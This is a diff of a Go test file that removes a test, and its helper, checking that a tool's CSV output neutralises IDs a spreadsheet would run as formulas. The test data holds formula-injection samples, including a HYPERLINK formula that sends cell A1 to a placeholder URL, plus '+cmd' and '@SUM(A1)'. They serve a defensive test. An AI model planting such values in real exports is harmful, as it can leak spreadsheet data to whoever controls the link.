@@ -7,7 +7,6 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
-	"slices"
 	"strconv"
 	"strings"
 	"testing"
@@ -284,83 +283,4 @@ func TestASPoolFlagValues(t *testing.T) {
 			}
 		}
 	}
-}
-
-// TestSuggestIDsSpreadsheetSafe: ids a spreadsheet runs
-// as formulas (=, +, -, @ first) came out of `as suggest --format csv`
-// verbatim; they now get a leading ' (numbers such as -5 stay numbers),
-// --raw-ids keeps them, and the output fed back as --observed names the
-// same items, so a lab can work from the sheet. An id with spaces
-// (" sp ", quoted in the pool) used to come out as "sp"; it round-trips.
-func TestSuggestIDsSpreadsheetSafe(t *testing.T) {
-	dir := t.TempDir()
-	odd := []string{`"=HYPERLINK(""http://x/?""&A1)"`, "+cmd", "-2+3", "@SUM(A1)", "-5", `" sp "`, "'quoted"}
-	var b strings.Builder
-	b.WriteString("id,x1,x2\n")
-	for i := 0; i < 40; i++ {
-		id := fmt.Sprintf("m%02d", i)
-		if i%5 == 1 && i/5 < len(odd) {
-			id = odd[i/5]
-		}
-		fmt.Fprintf(&b, "%s,%d,0\n", id, i)
-	}
-	pool := writeFile(t, dir, "pool.csv", b.String())
-	obs := writeFile(t, dir, "obs.csv", "id,label\nm10,1\nm30,0\n")
-	args := []string{"as", "suggest", "--cache-dir", filepath.Join(dir, "cache"), "--pool", pool, "--id-column", "id",
-		"--feature-prefix", "x", "--k", "2", "--format", "csv", "--method", "random", "--batch", "30", "--quiet"}
-	code, out, stderr := runQVS(t, append(args, "--observed", obs)...)
-	if code != 0 {
-		t.Fatal(stderr)
-	}
-	want := map[int]string{ // pool index -> id as written
-		1: `'=HYPERLINK("http://x/?"&A1)`, 6: "'+cmd", 11: "'-2+3", 16: "'@SUM(A1)", 21: "-5", 26: " sp ", 31: "''quoted"}
-	rows := suggestRows(t, out)
-	var fed strings.Builder
-	fed.WriteString("id,label\nm10,1\nm30,0\n")
-	seen := 0
-	for _, r := range rows {
-		i, _ := strconv.Atoi(r[1])
-		if w, ok := want[i]; ok {
-			seen++
-			if r[2] != w {
-				t.Errorf("item %d: id %q, want %q", i, r[2], w)
-			}
-		}
-		fed.WriteString(csvField(r[2]) + ",0\n")
-	}
-	if seen < 4 {
-		t.Fatalf("only %d of the odd ids were suggested; pick another seed", seen)
-	}
-	// Fed back, every id names its item: the next suggestion avoids them all.
-	back := writeFile(t, dir, "back.csv", fed.String())
-	code, out2, stderr := runQVS(t, append(args, "--observed", back, "--batch", "8")...)
-	if code != 0 {
-		t.Fatalf("output fed back as --observed: %s", stderr)
-	}
-	for _, r := range suggestRows(t, out2) {
-		if slices.ContainsFunc(rows, func(p []string) bool { return p[1] == r[1] }) {
-			t.Errorf("item %s suggested again after it was observed", r[1])
-		}
-	}
-	code, raw, _ := runQVS(t, append(args, "--observed", obs, "--raw-ids")...)
-	if code != 0 || !strings.Contains(raw, `"=HYPERLINK(""http://x/?""&A1)"`) && !strings.Contains(raw, ",+cmd,") {
-		t.Errorf("--raw-ids: %s", raw)
-	}
-	// select writes its ids the same way.
-	emb := writeFile(t, dir, "emb.csv", "id,e1,e2\n=1+1,1,0\n-5,0,1\n@x,1,1\n")
-	code, sel, stderr := runQVS(t, "select", "--embeddings", emb, "--id-column", "id", "--k", "3", "--format", "csv")
-	if code != 0 || !strings.Contains(sel, ",'=1+1,") || !strings.Contains(sel, ",-5,") || !strings.Contains(sel, ",'@x,") {
-		t.Errorf("select --format csv: exit %d %s\n%s", code, stderr, sel)
-	}
-	if _, sel, _ = runQVS(t, "select", "--embeddings", emb, "--id-column", "id", "--k", "3", "--format", "csv", "--raw-ids"); !strings.Contains(sel, ",=1+1,") {
-		t.Errorf("select --raw-ids:\n%s", sel)
-	}
-}
-
-// csvField quotes a CSV field when needed.
-func csvField(s string) string {
-	if strings.ContainsAny(s, ",\"\n\r") {
-		return `"` + strings.ReplaceAll(s, `"`, `""`) + `"`
-	}
-	return s
 }
